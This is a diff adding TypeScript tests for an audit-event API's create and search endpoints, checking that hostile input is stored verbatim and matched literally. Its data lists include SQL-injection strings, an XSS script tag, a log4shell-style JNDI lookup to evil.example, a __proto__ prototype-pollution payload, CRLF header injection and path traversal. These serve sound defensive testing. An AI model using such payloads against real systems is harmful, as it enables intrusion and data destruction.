@@ -757,3 +757,155 @@ describe('hostile and malformed requests', () => {
     expect(await storedByThisFile()).toBe(0);
   });
 });
+
+describe('hostile strings are data: stored verbatim, matched literally', () => {
+  const company = uniqueCompanyId();
+  const MESSAGES = [
+    "O'Brien's account",
+    "'; DROP TABLE auditevents; --",
+    "Robert'); DELETE FROM auditevents WHERE ('1'='1",
+    '100% done',
+    'file_name_with_underscores',
+    'back\\slash and \\\\ double',
+    'quote " double and `backtick`',
+    'emoji 😀🎉 and a flag 🇺🇸',
+    'RTL \u202Eexe.txt\u202C and \u200F mark',
+    'zero\u200Bwidth and \uFEFF inside',
+    'tab\tnewline\nCRLF\r\nend',
+    '<script>alert(1)</script>',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the string is the point (log4shell-style)
+    '${jndi:ldap://evil.example/a}',
+    '$1 $$ :name ? placeholders',
+    'decomposed e\u0301 and composed \u00e9',
+    'all three %_\\ together',
+    '  leading and trailing spaces  ',
+    '中文 русский العربية',
+    'max code point \u{10FFFF}',
+    `long ${'y'.repeat(9_995)}`,
+  ];
+  const USERS = ["O'Brien", "'; --", '%_\\', '😀'.repeat(10), 'e\u0301', '  padded  '];
+  // Raw JSON: in a JS object literal __proto__ would set the prototype instead of being a key.
+  const ADDITIONAL_JSON = JSON.stringify({
+    sql: "'; DROP TABLE x; --",
+    like: '%_\\',
+    nested: { emoji: '😀', list: [1, 'two', null, true, 1.5, { deep: '\u202E' }] },
+    'quote"key': 'v',
+    '': 'empty key',
+    constructor: 'c',
+    toString: 'not a function',
+    big: Number.MAX_SAFE_INTEGER,
+    negative: -0.5,
+    ключ: 'значение',
+  }).replace('{', '{"__proto__":{"polluted":true},');
+  const additional = JSON.parse(ADDITIONAL_JSON) as Record<string, unknown>;
+  /** JSON with keys sorted at every level: jsonb keeps its own key order. */
+  const canonical = (v: unknown): string =>
+    JSON.stringify(v, (_k, value) =>
+      value && typeof value === 'object' && !Array.isArray(value)
+        ? Object.fromEntries(
+            Object.keys(value)
+              .sort()
+              .map((k) => [k, value[k]]),
+          )
+        : value,
+    );
+  const stored = new Map<number, { message: string; user: string }>();
+
+  interface Found {
+    Id: number;
+    Message: string;
+    UserName: string;
+    AdditionalData: unknown;
+  }
+  const search = async (params: Record<string, string>) => {
+    const qs = new URLSearchParams({ company_id: String(company), page_size: '100', ...params });
+    const response = await call(`${BASE}/search?${qs}`, { headers: { 'CSIQ-APIKEY': KEY } });
+    expect(response.status, await response.clone().text()).toBe(200);
+    return ((await response.json()) as { events: Found[] }).events;
+  };
+
+  it('create stores each one and search returns it identical, byte for byte', async () => {
+    expect(Object.keys(additional)).toContain('__proto__');
+    for (const [i, message] of MESSAGES.entries()) {
+      const user = USERS[i % USERS.length] as string;
+      const body = JSON.stringify({ ...event({ company_id: company, message, user }), additional_data: 'X' }).replace(
+        '"X"',
+        ADDITIONAL_JSON,
+      );
+      const response = await postJson(`${BASE}/create`, body);
+      expect(response.status, `${message.slice(0, 40)}: ${await response.clone().text()}`).toBe(201);
+      stored.set(((await response.json()) as { id: number }).id, { message, user });
+    }
+    const events = await search({});
+    expect(events.length).toBe(MESSAGES.length);
+    for (const found of events) {
+      const expected = stored.get(found.Id);
+      expect(found.Message).toBe(expected?.message);
+      expect(found.UserName).toBe(expected?.user);
+      expect(canonical(found.AdditionalData)).toBe(canonical(additional));
+    }
+    // Nothing leaked onto Object.prototype on the way.
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    // And nothing was dropped: the tables are still there and hold every row.
+    const [row] = await query<{ n: number }>('SELECT count(*)::int AS n FROM auditevents WHERE companyid = $1', [
+      company,
+    ]);
+    expect(row?.n).toBe(MESSAGES.length);
+  });
+
+  it.each(['%', '_', '\\', "'", '%_\\', "'; DROP", '😀', '\u202E', '"', '$$', 'e\u0301', '  leading', "O'BRIEN"])(
+    'message_pattern %j matches literally (case-insensitive), never as a wildcard',
+    async (pattern) => {
+      const expected = MESSAGES.filter((m) => m.toLowerCase().includes(pattern.toLowerCase())).sort();
+      const found = (await search({ message_pattern: pattern })).map((e) => e.Message).sort();
+      expect(found).toEqual(expected);
+    },
+  );
+
+  it('exact filters are exact: a wildcard in user, functionality or event_type matches nothing else', async () => {
+    expect((await search({ user: '%' })).length).toBe(0);
+    expect((await search({ user: '_' })).length).toBe(0);
+    expect((await search({ user: '%_\\' })).map((e) => e.UserName)).toEqual(
+      MESSAGES.filter((_, i) => USERS[i % USERS.length] === '%_\\').map(() => '%_\\'),
+    );
+    expect((await search({ user: "O'Brien" })).every((e) => e.UserName === "O'Brien")).toBe(true);
+    expect((await search({ functionality: '%' })).length).toBe(0);
+    expect((await search({ event_type: 'Log%' })).length).toBe(0);
+    expect((await search({ functionality: "Authenticate' OR '1'='1" })).length).toBe(0);
+    expect((await search({ functionality: 'Authenticate' })).length).toBe(MESSAGES.length);
+  });
+});
+
+describe('odd but harmless input is tolerated', () => {
+  it('a UTF-8 byte order mark before the JSON is ignored (RFC 8259 allows it), the message is stored without it', async () => {
+    const company = uniqueCompanyId();
+    const response = await postJson(
+      `${BASE}/create`,
+      `\ufeff${JSON.stringify(event({ company_id: company, message: 'bom' }))}`,
+    );
+    expect(response.status).toBe(201);
+    const rows = await query<{ message: string }>('SELECT message FROM auditevents WHERE companyid = $1', [company]);
+    expect(rows).toEqual([{ message: 'bom' }]);
+  });
+
+  it('an unsafe X-Request-ID is replaced by a fresh one, never echoed', async () => {
+    for (const id of [
+      '<script>alert(1)</script>',
+      'has space',
+      'x'.repeat(65),
+      'semi;colon',
+      'caf\u00e9',
+      '../../etc',
+    ]) {
+      const response = await call(`${API}/healthcheck`, { headers: { 'X-Request-ID': id } });
+      expect(response.headers.get('X-Request-ID'), id).toMatch(/^[0-9a-f-]{36}$/);
+    }
+    // CR and LF cannot even be sent: the runtime refuses to build such a header.
+    expect(() => new Headers({ 'X-Request-ID': 'a\r\nSet-Cookie: x=1' })).toThrow();
+  });
+
+  it('routes without parameters ignore unknown ones, as FastAPI does', async () => {
+    const response = await call(`${BASE}/get-all-auditfunctionalities?x=1&y=%27`, { headers: { 'CSIQ-APIKEY': KEY } });
+    expect(response.status).toBe(200);
+  });
+});
